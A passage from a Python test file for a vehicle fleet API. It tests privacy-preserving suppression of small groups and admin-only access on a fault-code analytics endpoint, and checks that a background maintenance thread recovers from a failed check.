        store.close()
    url = "/v1/analytics/fault-codes"
    params = {"start": start, "end": start + 5 * day}
    r = api.as_(api.admin, "GET", url, params=params)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["rows"] == [
        {
            "model": "WLYFE000",
            "code": "P0301",
            "vehicles": 6,
            "occurrences": 7,
            "first_day": start + day,
            "first_day_iso": body["rows"][0]["first_day_iso"],
        }
    ]
    assert (body["min_group"], body["groups_suppressed"]) == (5, 2)
    assert "WLYFE000000000000" not in r.text
    # a bigger minimum hides it too; a smaller one is refused
    bigger = api.as_(api.admin, "GET", url, params={**params, "min_group": 7}).json()
    assert (bigger["rows"], bigger["groups_suppressed"]) == ([], 3)
    r = api.as_(api.admin, "GET", url, params={**params, "min_group": 2})
    assert r.status_code == 422, r.text
    csv_lines = api.as_(api.admin, "GET", url, params={**params, "format": "csv"}).text
    assert csv_lines.splitlines()[1].startswith("WLYFE000,P0301,6,7,")
    # only administrators
    _, owner = api.owner("quality@example.com")
    error(api.as_(owner, "GET", url), 403, "forbidden")


def test_the_maintenance_thread_checks_again_and_survives_a_failure() -> None:
    calls: list[int] = []

    def check(now: int) -> CheckResult:
        calls.append(now)
        if len(calls) == 1:
            raise RuntimeError("the database is away")
        return CheckResult(0, 0)

    thread = MaintenanceThread(check, interval_s=0.02)
    thread.start()
    try:
        wait_until(lambda: len(calls) >= 3, what="three checks")
    finally:
        thread.stop()
    assert calls == sorted(calls)
